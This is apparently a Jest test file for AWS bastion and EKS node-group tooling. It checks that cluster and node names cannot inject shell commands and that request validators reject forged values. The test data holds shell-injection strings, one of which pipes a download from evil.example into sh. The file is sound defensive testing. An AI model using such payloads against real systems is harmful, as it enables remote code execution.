/** A name in a request is whatever its writer wants; on the bastion it is a name. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@jest/globals';
import { refreshScript } from '../../../../../adapters/aws/ec2/bastion-user-data.ts';
import { bastionRequest, clusterRequest, nodegroupRequest } from '../../../../../functions/lambda/events.ts';

test('the name of a cluster runs nothing on the bastion', () => {
  const at = mkdtempSync(join(tmpdir(), 'gcd-bastion-'));
  try {
    // Stands for the AWS CLI, and says what it was asked for.
    writeFileSync(join(at, 'aws'), '#!/bin/sh\nprintf "%s\\n" "$@" > asked\necho CREATING none none\n', {
      mode: 0o755,
    });
    const cluster = `lab'; touch ${at}/pwned; '`;
    execFileSync('bash', ['-c', refreshScript({ cluster, region: 'eu-west-1', at })], {
      env: { PATH: `${at}:${process.env.PATH}` },
    });
    expect(existsSync(join(at, 'pwned'))).toBe(false);
    expect(execFileSync('sed', ['-n', '4p', join(at, 'asked')], { encoding: 'utf8' })).toBe(`${cluster}\n`);
  } finally {
    rmSync(at, { recursive: true });
  }
});

test('functions take no names from a forged request but names, and no more nodes than config.yaml may ask for', () => {
  const tags = {};
  const since = '2026-11-30T16:00:00Z';
  const evil = "lab'; curl evil.example/x | sh; '";
  const group = {
    ...{ cluster: 'lab', name: 'gcd-m6i-large', instanceType: 'm6i.large', spot: false, tags },
    ...{ amiType: 'AL2023_x86_64_STANDARD', maxNodes: 100, diskGiB: 30 },
  };
  expect(nodegroupRequest.safeParse({ want: group, since }).error).toBeUndefined();
  for (const forged of [
    ...[{ cluster: evil }, { name: evil }, { instanceType: evil }],
    ...[{ maxNodes: 1_000_000 }, { diskGiB: 1_000_000 }, { maxNodes: 0.5 }],
  ])
    expect([forged, nodegroupRequest.safeParse({ want: { ...group, ...forged }, since }).success]).toEqual([
      forged,
      false,
    ]);
  for (const want of [
    { name: evil, cluster: 'lab', tags },
    { name: 'lab-bastion', cluster: evil, tags },
  ])
    expect(bastionRequest.safeParse({ want, since }).success).toBe(false);
  expect(clusterRequest.safeParse({ want: { name: evil, version: null, tags }, since }).success).toBe(false);
  expect(clusterRequest.safeParse({ want: { name: 'lab', version: null, tags }, since }).success).toBe(true);
});
